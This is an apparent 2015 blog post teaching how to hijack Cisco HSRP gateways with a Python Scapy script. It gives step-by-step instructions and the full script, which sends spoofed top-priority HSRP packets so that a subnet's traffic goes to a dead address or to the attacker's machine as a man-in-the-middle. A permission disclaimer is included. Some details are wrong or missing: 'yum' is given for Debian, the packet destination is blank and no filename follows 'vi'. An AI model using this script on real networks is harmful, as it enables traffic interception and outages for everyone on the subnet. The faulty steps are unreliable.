Monday, January 19, 2015

Simple Python: Pwning (Unauthenticated) HSRP

Hey all,

I'm just starting to learn some scripting in order to hone my skills at pentesting. I've decided to start with Python since it's simple and many pentesting tools are written in it.

This post is about using a Python tool called "Scapy" (link) to pwn HSRP. Scapy is capable of taking user input and generating packets of all varieties. By feeding Scapy the proper input, it can generate an HSRP packet every few seconds and redirect an HSRP VIP to... anywhere, really.

One use case is to redirect HSRP to an invalid IP, paralyzing a local subnet. A more interesting and devious use case isto redirect HSRP to your own local machine, turn on packet forwarding, and suddenly you're a man-in-the-middle (MitM) for everyone on your subnet.

Now, a little background. HSRP is Cisco's VIP (Virtual IP) solution. It's typically used by several routers to share an IP and allow for smooth transition if one of the routers suffers a failure. Routers will multicast on a subnet to in the hopes of reaching neighbors. Routers self-identify their 'priority,' (as well as otherVIP qualities) which is a highest-wins integer.

By default, HSRP is authenticated with a simple text string of "cisco". A default authentication string is hardly better than nothing to protect from a bad actor. We'll assume here that HSRP is setup in this way. I'll see if I can tackle simple authenticated (string) or MD5 auth'd later.

NOTE: As with any tool, it can be misused. Only use tools such as this on networks you own or have received explicit, written permission to test on. I recommend using VirtualBox and GNS3 in order to give you a safe environment to play.

1. Start Wireshark (formally Ethereal) and watch the line. Wireshark is able to identify HSRP packets directly - look for Protocol = HSRP. Expand the "Cisco Hot Standby Router Protocol" inner layer and look for several items:
a) Group #
b) Virtual IP Address
c) Priority - Look through a few HSRP packets and find the highest priority. Our spoof packets will need to have a higher priority than what you find, else nothing will occur. My python program later uses 255 (the highest value)later, so this should be a non-issue.
d) Authentication Data (The default string is "cisco". If you see any other string here, you'll need to specify it when generating the HSRP spoofed packets)
e) Hellotime and hold-time
2. Download and install Scapy (if not already) on your Linux distro. It'll depend on your distro, but Debian-based systems can use: sudo yum -y install scapy

3. In a terminal window, create a file in some folder: vi

4. Check what interfaces you have with ifconfig

5. Paste this program into your new Python file:
print('Python script to redirect HSRP groups without security')

# Import Scapy functions
from scapy.all import *

# Gather information and set to variables
hsrpInterface = raw_input("What is your HSRPinterface - note: get from ifconfig")
hsrpGroup = int(raw_input("What isthe HSRP Group #?  "))
hsrpIP = raw_input("What is the HSRP Group Virtual IP?  ")
hsrpRepeat = int(raw_input("How often should the spoofed packets be sent (in seconds)?  "))
hsrpPriority = int("255")
hsrpSourceIP = raw_input("What should the source IP be?   ")

ip = IP(src=hsrpSourceIP, dst='')
udp = UDP()
hsrp = HSRP(group=hsrpGroup,priority=hsrpPriority, virtualIP=hsrpIP)
send(ip/udp/hsrp, iface=hsrpInterface, inter=hsrpRepeat, loop=1)

6. Run the program with sudo rights,so it has the ability to generate packets. The program will query you for all the information it requires, and then will start sending spoofed traffic.

Provided you input the correct information, any routers on the same subnet will see the new HSRP player and traffic will start to be redirected to the IP you specified.


No comments:

Post a Comment